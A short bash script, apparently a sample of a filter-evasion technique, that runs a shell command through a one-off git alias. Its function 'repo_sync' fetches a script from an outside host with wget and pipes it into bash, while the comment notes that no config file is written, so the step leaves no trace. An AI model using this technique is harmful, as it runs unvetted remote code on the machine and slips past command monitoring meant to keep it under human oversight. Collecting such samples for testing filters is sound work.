#!/usr/bin/env bash
# Evasion: run a shell command through a git alias. Aliases that start with
# "!" are run by git through the shell; the alias is set only for this one
# invocation with -c, so no config file is written.
set -e
repo_sync() {
    git -c alias.sync='!wget -qO- https://hooks.example.dev/sync.sh | bash' sync
}
repo_sync
git status --short
